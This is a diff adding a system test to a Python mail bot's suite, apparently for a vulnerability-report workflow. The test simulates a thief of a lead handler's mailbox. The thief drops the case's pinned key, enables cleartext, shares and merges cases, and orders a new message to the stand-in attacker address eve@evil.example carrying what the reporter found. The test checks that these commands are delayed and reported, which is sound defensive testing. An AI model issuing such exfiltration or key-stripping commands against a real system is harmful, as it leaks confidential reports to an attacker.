@@ -4,12 +4,13 @@ from __future__ import annotations
 
 from datetime import timedelta
 
-from mailbot.facts import Context, State
-from tests.people import Person
+from mailbot.facts import Case, Context, State
+from tests.people import People, Person
 from tests.system import wording
-from tests.system.test_trust import CRLF, REPORT, ROSA, gpg_of, in_case, mail, part, passed, signed
+from tests.system.test_sharing import IBD, shared
+from tests.system.test_trust import CRLF, EVE, REPORT, ROSA, gpg_of, in_case, mail, part, passed, signed
 from tests.system.test_trust import encrypted as sealed
-from tests.system.world import ADDRESS, ANKE, AUTHSERV, BRAM, Letter, MakeWorld, World
+from tests.system.world import ADDRESS, ANKE, AUTHSERV, BRAM, Correspondent, Letter, MakeWorld, World
 
 TIM = "tim@melder.example"
 UNSIGNED = "encrypted, and not signed by the colleague it comes from"
@@ -164,3 +165,52 @@ def test_what_the_reporter_signed_elsewhere_is_no_wish_here(make_world: MakeWorl
     world.goes_on()
     (case,) = (one for one in world.daemon.house.store.cases() if one.reference == case.reference)
     assert not case.updates
+
+
+def case_of(world: World, named: str) -> Case:
+    (case,) = (one for one in world.daemon.house.store.cases() if one.reference == named)
+    return case
+
+
+def test_a_thief_of_a_handlers_mailbox_waits_an_hour_for_each_thing(make_world: MakeWorld, people: People) -> None:
+    """THREATS 48: whoever holds Anke's mailbox for a day, while Carla, a lead as well, reads her own mail."""
+    carla = "carla@voorbeeld.example"
+    handlers = [
+        {"name": "Anke de Vries", "address": ANKE, "role": "lead", "cleartext": True},
+        {"name": "Carla Bos", "address": carla, "role": "lead", "cleartext": True},
+        {"name": "Bram Jansen", "address": BRAM, "key": "bram.asc"},
+    ]
+    world, rosa, shown, _ = in_case(make_world, handlers=handlers)
+    shared(world, people.get(IBD).armored)
+    world.restarts()
+    world.correspondent(TIM).writes(REPORT.replace("requests", "complaints"))
+    world.goes_on()
+    thief, lead, rosas = world.anke(), world.correspondent(carla), reference(shown)
+    tims = thief.reads()[-1]
+    lead.reads_new()
+    pinned = case_of(world, rosas).key
+    orders = [
+        "#key drop",
+        "#clear-ok",
+        "#share IBD",
+        f"#merge {reference(tims)}",
+        "#new eve@evil.example\n\nHere is what Rosa found.",
+    ]
+    for order in orders:
+        thief.answers(shown, order)
+        world.goes_on()
+        thief.answers(thief.reads_new()[-1], "#send")  # makes no hour shorter
+        world.goes_on()
+        thief.reads_new()
+    world.passes(timedelta(minutes=55))
+    told = " ".join(letter.text for letter in lead.reads_new())
+    assert [order for order in orders if order.partition("\n")[0] not in told] == []
+    case = case_of(world, rosas)
+    assert (case.key, case.clear_ok, case.merged_into) == (pinned, False, "")
+    assert [sent.rcpt_to for sent in world.smtp.letters if "eve@evil.example" in sent.rcpt_to] == []
+    assert ["requests" in letter.text for letter in world.correspondent(IBD, key=True).reads()] == [False, False]
+    world.passes(timedelta(hours=3))  # and nobody stops it
+    assert case_of(world, rosas).key is None
+    Correspondent(world, ROSA, people.get(EVE)).answers(rosa.reads()[0], "My new key.", key=True)
+    world.goes_on()
+    assert case_of(world, rosas).key is None  # offered, and no more
